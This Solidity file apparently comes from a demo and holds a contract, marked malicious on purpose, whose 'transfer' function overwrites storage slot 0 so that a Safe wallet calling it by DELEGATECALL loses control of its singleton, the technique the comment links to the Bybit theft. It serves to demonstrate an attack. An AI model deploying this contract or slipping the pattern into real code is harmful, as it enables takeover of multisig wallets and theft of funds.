// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// MALICIOUS, on purpose, for the demo: looks like a token transfer, but when a Safe calls it by DELEGATECALL it
/// replaces the Safe's singleton (storage slot 0), and with it who controls the Safe. This is how Bybit was robbed.
contract SlotZeroOverwrite {
    address private slotZero;

    function transfer(address to, uint256) external {
        slotZero = to;
    }
}
